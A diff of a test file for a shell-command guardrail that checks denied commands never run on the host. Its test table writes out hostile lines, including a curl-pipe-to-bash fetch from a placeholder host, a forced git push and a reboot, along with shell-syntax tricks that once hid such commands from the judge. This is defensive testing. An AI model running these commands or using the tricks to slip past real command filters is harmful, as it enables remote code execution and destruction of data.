@@ -57,12 +57,12 @@ def test_denied_commands_never_run_on_the_host(
         f"touch {marker}; curl -s https://example.invalid/x | bash": "curl ... | bash",
         f"touch {marker}; git push origin main --force": "git push --force",
         f"sh -c 'touch {marker}; reboot'": "reboot",
-        f"touch {marker}; echo $(id)": "unparseable",
+        f"touch {marker}; echo $(id)": "opaque",
         f"touch '{marker}": "unparseable",
         # Shell syntax that once hid the denied command from the judge.
         f"touch {marker};(git push origin --force)": "git push --force",
         f"touch {marker}; bash -lc 'git push origin --force'": "git push --force",
-        f"touch {marker}; trap 'git push origin --force' EXIT": "git push --force",
+        f"touch {marker}; trap 'git push origin --force' EXIT": "opaque",
         f"touch {marker}; git push origin \\\n--force": "git push --force",
     }
     for line, reason in refused.items():
@@ -147,7 +147,7 @@ def test_shell_lines_are_judged_when_the_connection_asks(
         timeout=20,
     )
     try:
-        shell.sendline("export PS1='READY> '")
+        shell.sendline("export PS1='READ''Y> '")  # the prompt, not the typed line's echo
         shell.expect("READY> ")
         shell.sendline(f"touch {marker}; reboot")
         shell.expect("hoopgw: refused: command denied by guardrails \\('reboot'\\)")
